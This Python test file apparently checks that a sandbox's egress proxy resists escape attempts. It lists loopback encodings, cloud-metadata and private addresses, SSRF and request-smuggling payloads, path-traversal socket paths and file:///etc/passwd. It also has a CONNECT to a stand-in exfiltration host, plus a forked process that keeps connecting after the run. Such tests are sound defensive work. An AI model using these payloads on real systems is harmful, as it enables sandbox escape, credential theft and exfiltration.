"""What a task may try against its way out: it speaks to the sidecar's socket itself, past all that is ours."""

import errno
import os
import socket
import time

from samovar import task

WAY = "/run/samovar/egress.sock"
#: A server that this project may reach, and one that it may not.
PORT, OTHER = int(os.environ["PORT"]), int(os.environ["OTHER"])
LIST = [f"allowed.internal:{PORT}"]
LOOPBACK = {
    "plain": "127.0.0.1",
    "short": "127.1",
    "decimal": "2130706433",
    "hexadecimal": "0x7f000001",
    "octal": "0177.0.0.1",
    "unspecified": "0.0.0.0",
    "zero": "0",
    "ipv6": "[::1]",
    "mapped": "[::ffff:127.0.0.1]",
    "compatible": "[::127.0.0.1]",
    "nat64": "[64:ff9b::7f00:1]",
    "six_to_four": "[2002:7f00:1::]",
    "scoped": "[::1%25lo]",
    "name": "localhost",
    "dotted_name": "LocalHost.",
}
ELSEWHERE = {
    "metadata": "169.254.169.254:80",
    "metadata6": "[fd00:ec2::254]:80",
    "gateway": "172.17.0.1:443",
    "neighbours": "192.168.0.1:443",
    "company": "10.0.0.1:443",
    "carrier": "100.64.0.1:443",
    "multicast": "224.0.0.1:443",
    "broadcast": "255.255.255.255:443",
    "docker": "host.docker.internal:443",
}


def said(text: str, path: str = WAY) -> str:
    """The status of the answer to a request, or the name of an error."""
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(15)
        try:
            one.connect(path)
            one.sendall(text.encode("latin-1"))
            one.shutdown(socket.SHUT_WR)  # where more of a request is wanted, there is none
            answer = one.recv(4096).decode("latin-1")
        except OSError as error:
            return errno.errorcode.get(error.errno, type(error).__name__)
    return answer.split(" ")[1] if answer.startswith("HTTP/1.1 ") else answer[:20] or "closed"


def connect(place: str) -> str:
    return said(f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n")


def everything() -> dict:
    allowed, other = f"allowed.internal:{PORT}", f"other.internal:{OTHER}"
    found = {f"loopback_{name}": connect(f"{host}:{OTHER}") for name, host in LOOPBACK.items()}
    found |= {name: connect(place) for name, place in ELSEWHERE.items()}
    found |= {
        "other_host": connect(other),
        "other_port": connect(f"allowed.internal:{OTHER}"),
        "no_port": connect("other.internal"),
        "wrong_port": connect("other.internal:99999"),
        "userinfo": connect(f"{allowed}@{other}"),
        "fragment": connect(f"other.internal#.allowed.internal:{OTHER}"),
        "null": connect(f"other.internal\0.allowed.internal:{OTHER}"),
        "two_targets": said(f"CONNECT {allowed} {other} HTTP/1.1\r\n\r\n"),
        "host_header": said(f"CONNECT {other} HTTP/1.1\r\nHost: {allowed}\r\n\r\n"),
        "absolute": said(f"GET http://{other}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n"),
        "origin": said(f"GET / HTTP/1.1\r\nHost: {other}\r\n\r\n"),
        "other_scheme": said(f"GET file:///etc/passwd HTTP/1.1\r\nHost: {allowed}\r\n\r\n"),
        "smuggled": said(
            f"GET http://{other}/ HTTP/1.1\r\nHost: {other}\r\n"
            "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n"
        ),
        "bare_line_feed": said(f"CONNECT {other} HTTP/1.1\nHost: {other}\n\n"),
        "folded": said(f"CONNECT {other} HTTP/1.1\r\n Host: {allowed}\r\n\r\n"),
        "older": said(f"CONNECT {other} HTTP/0.9\r\n\r\n"),
        "control_socket": said("GET /events HTTP/1.1\r\n\r\n", "/run/samovar/../control.sock"),
        "another_socket": said("CONNECT a:1 HTTP/1.1\r\n\r\n", "/run/samovar/../../samovar/c/other/egress.sock"),
    }
    return found


@task(network=LIST)
def by_a_list() -> dict:
    assert connect(f"allowed.internal:{PORT}") == "200"
    # from a list no name is resolved that is not in it
    return {**everything(), "tunnelled_name": connect("secret-of-the-run.exfiltration.example:443")}


@task  # "public", where it is trusted
def by_the_proxy() -> dict:
    return everything()


@task(network="none")
def without() -> str:
    return connect(f"allowed.internal:{PORT}")


@task(network=LIST)
def directly() -> list:
    """Past the sidecar: what this container can connect to by itself."""
    found = []
    for host in ("169.254.169.254", "172.17.0.1", "10.0.0.1"):
        try:
            socket.create_connection((host, 80), timeout=3).close()
            found.append("connected")
        except OSError as error:
            found.append(errno.errorcode.get(error.errno, "timeout"))
    try:
        socket.getaddrinfo("other.internal", 80)
        found.append("resolved")
    except socket.gaierror:
        found.append("gaierror")
    return found


@task(network=LIST)
def leave() -> str:
    """A process that goes on to reach out when the run is over, by the relay and past it."""
    ready, reached = os.pipe()
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                with socket.create_connection(("allowed.internal", PORT), timeout=5) as one:
                    one.sendall(b"left")
                    one.recv(1)
                connect(f"allowed.internal:{PORT}")
                os.write(reached, b"x")
            except OSError:
                time.sleep(0.001)
    os.read(ready, 1)
    return "left"


@task(network=LIST)
def hold() -> str:
    """Ends with connections that are open, by the relay and past it."""
    global held
    held = [socket.create_connection(("allowed.internal", PORT), timeout=5), socket.socket(socket.AF_UNIX)]
    held[1].connect(WAY)
    held[1].sendall(f"CONNECT allowed.internal:{PORT} HTTP/1.1\r\n\r\n".encode())
    assert held[1].recv(64).startswith(b"HTTP/1.1 200")
    held[0].sendall(b"held")
    assert held[0].recv(4) == b"held"
    return "held"
